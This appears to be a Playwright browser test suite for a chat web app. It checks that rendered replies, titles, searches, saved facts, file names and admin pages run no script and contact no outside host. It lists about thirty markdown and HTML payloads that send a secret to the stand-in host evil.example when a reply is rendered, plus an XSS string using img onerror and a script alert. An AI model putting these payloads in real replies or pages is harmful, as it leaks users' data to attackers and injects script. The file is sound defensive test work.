"""What an attacker would have a page do, tried in every place that shows text.

Nothing may run, nothing may be asked of another host, no link may lead into a script.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.administered import ADA, administered
from tests.browser.chat import Chat, sign_in
from tests.browser.conftest import PATIENCE
from tests.core.markdown.payloads import PAYLOADS
from tests.parrot import parrot
from tests.product import Product

# unclosed ones would swallow what follows them
ALONE = [p for p in PAYLOADS if p.count("```") == 1 or "<!--" in p or "<![" in p]
MANY = [p for p in PAYLOADS if p not in ALONE]
TOGETHER = 10
BATCHES = [
    "\n\n***\n\n".join(MANY[start : start + TOGETHER])
    for start in range(0, len(MANY), TOGETHER)
] + ALONE
# ways to carry a secret out by the mere showing of a reply
EXFILTRATION = [
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
    "![x](//evil.example/?q=SECRET)",
    "[![x](https://evil.example/?q=SECRET)](https://evil.example)",
    "<img src=https://evil.example/?q=SECRET>",
    "<img srcset='https://evil.example/?q=SECRET 1x'>",
    "<picture><source srcset=https://evil.example/a><img></picture>",
    "<link rel=prefetch href=https://evil.example/?q=SECRET>",
    "<link rel=dns-prefetch href=//secret.evil.example>",
    "<link rel=preconnect href=//secret.evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?q=SECRET'>",
    "<style>@import 'https://evil.example/?q=SECRET'</style>",
    "<div style='background:url(https://evil.example/?q=SECRET)'>x</div>",
    "<video poster=https://evil.example/?q=SECRET></video>",
    "<audio src=https://evil.example/?q=SECRET autoplay></audio>",
    "<iframe src=https://evil.example/?q=SECRET></iframe>",
    "<object data=https://evil.example/?q=SECRET></object>",
    "<embed src=https://evil.example/?q=SECRET>",
    "<form action=https://evil.example><button autofocus>x</button></form>",
    "<a href=https://x.example ping=https://evil.example/?q=SECRET>x</a>",
    "<svg><image href=https://evil.example/?q=SECRET /></svg>",
    "<svg><use href=https://evil.example/x.svg#a /></svg>",
    "<body background=https://evil.example/?q=SECRET>",
    "<table background=https://evil.example/?q=SECRET><tr><td>x</table>",
    "<math><mglyph src=https://evil.example/?q=SECRET /></math>",
    "$\\includegraphics{https://evil.example/?q=SECRET}$",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/?q=SECRET>]\n```",
    "```html\n<img src=https://evil.example/?q=SECRET>\n```",
    "| a |\n|---|\n| ![x](https://evil.example/?q=SECRET) |",
    "[^1]\n\n[^1]: ![x](https://evil.example/?q=SECRET)",
]


@pytest.fixture(scope="module")
def of_parrot(product_of: Callable[..., Product]) -> Iterator[str]:
    with parrot() as model:
        product = product_of(OPENAI_BASE_URL=model, OPENAI_API="chat")
        with administered(product) as address:
            yield address


@pytest.fixture
def live(of_parrot: str) -> str:
    expect.set_options(timeout=3 * PATIENCE)
    return of_parrot


class Watch:
    """What a page did that it must not."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.address = address
        self.dialogs: list[str] = []
        self.abroad: list[str] = []
        context.on("request", self._on_request)
        context.on("dialog", self._on_dialog)

    def _on_request(self, request: object) -> None:
        here = (self.address, self.address.replace("http", "ws", 1), "data:", "blob:")
        if not request.url.startswith(here):
            self.abroad.append(request.url)

    def _on_dialog(self, dialog: object) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def nothing_happened_on(self, page: Page) -> None:
        links = page.locator("a[href]").evaluate_all(
            "links => links.map(link => link.protocol)"
        )
        assert set(links) <= {"http:", "https:", "mailto:"}
        scripts = "main script:not([src^='/static/'])"  # the stock admin has some
        forbidden = f"{scripts}, main iframe, main object, main embed, main base"
        expect(page.locator(forbidden)).to_have_count(0)
        assert self.dialogs == []
        assert self.abroad == []


@pytest.fixture
def watch(context: BrowserContext, live: str) -> Watch:
    return Watch(context, live)


def test_in_a_question_and_in_the_reply(chat: Chat, watch: Watch) -> None:
    for batch in BATCHES:
        chat.ask(batch)
        watch.nothing_happened_on(chat.page)
    chat.page.reload()
    expect(chat.replies).to_have_count(len(BATCHES))
    watch.nothing_happened_on(chat.page)


def test_nothing_is_carried_out_of_a_reply(chat: Chat, watch: Watch) -> None:
    for start in range(0, len(EXFILTRATION), TOGETHER):
        chat.ask("\n\n".join(EXFILTRATION[start : start + TOGETHER]))
    watch.nothing_happened_on(chat.page)
    chat.page.reload()
    watch.nothing_happened_on(chat.page)


SHORT = [p for p in PAYLOADS if len(p) < 60 and "\n" not in p and "\x01" not in p][:40]
FEW = 5  # that one search can ask for together


def test_in_titles_of_the_sidebar_and_the_library(chat: Chat, watch: Watch) -> None:
    for payload in SHORT[::4]:
        chat.page.get_by_role("link", name="New chat").first.click()
        chat.is_at("/")
        chat.ask(payload)
        watch.nothing_happened_on(chat.page)
    for path in (
        "/c/",
        "/c/?q=alert",
        "/search/?q=alert",
        "/settings/usage/",
        "/settings/activity/",
    ):
        chat.open(path)
        watch.nothing_happened_on(chat.page)


def test_in_what_is_searched_for(chat: Chat, watch: Watch) -> None:
    for start in range(0, len(SHORT), FEW):
        words = " ".join(SHORT[start : start + FEW])
        chat.open(f"/search/?q={quote(words)}")
        watch.nothing_happened_on(chat.page)
        chat.open(f"/c/?q={quote(words)}")
        expect(chat.page.locator("main input[name=q]")).to_have_value(words)
        watch.nothing_happened_on(chat.page)


def test_in_facts(chat: Chat, watch: Watch) -> None:
    cards = chat.page.locator("#thread > .card")
    for number, payload in enumerate(SHORT[::5], start=1):
        chat.say(f"/set pet{number} {payload}")
        expect(cards).to_have_count(number)
        expect(cards.last).to_contain_text("Remembered")
        watch.nothing_happened_on(chat.page)
    chat.open("/settings/facts/")
    expect(chat.page.locator("ul.known > li")).to_have_count(number)
    watch.nothing_happened_on(chat.page)


def test_in_the_names_of_files(chat: Chat, watch: Watch) -> None:
    names = [f"{payload.replace('/', '_')}.txt" for payload in SHORT[::8]]
    chat.page.locator("input[type=file]").set_input_files(
        [{"name": n, "mimeType": "text/html", "buffer": b"<p>hello"} for n in names]
    )
    chat.ask("What is in these?")
    watch.nothing_happened_on(chat.page)
    chat.page.reload()
    watch.nothing_happened_on(chat.page)


NAME = '"><img src=x onerror=alert(1)><script>alert(1)</script>'


def test_in_the_administration(
    chat: Chat,
    live: str,
    new_context: Callable[..., BrowserContext],
) -> None:
    chat.open("/settings/")
    chat.page.get_by_label("Name").first.fill(NAME)
    chat.page.get_by_role("button", name="Save").first.click()
    expect(chat.page.get_by_text("Saved.")).to_be_visible()
    chat.open("/").ask(NAME)

    context = new_context()
    watch, page = Watch(context, live), context.new_page()
    page.goto(f"{live}/accounts/login/?next=/admin/")
    sign_in(page, ADA)
    expect(page).to_have_url(f"{live}/admin/")
    page.goto(f"{live}/admin/accounts/user/")
    theirs = page.get_by_role("row").filter(has_text=chat.email)
    expect(theirs.get_by_text(NAME)).to_be_visible()
    watch.nothing_happened_on(page)
    page.get_by_role("link", name=chat.email, exact=True).click()
    page.wait_for_url("**/change/")
    watch.nothing_happened_on(page)
    for path in ("accounts/auditevent", "conversations/conversation"):
        page.goto(f"{live}/admin/{path}/")
        watch.nothing_happened_on(page)
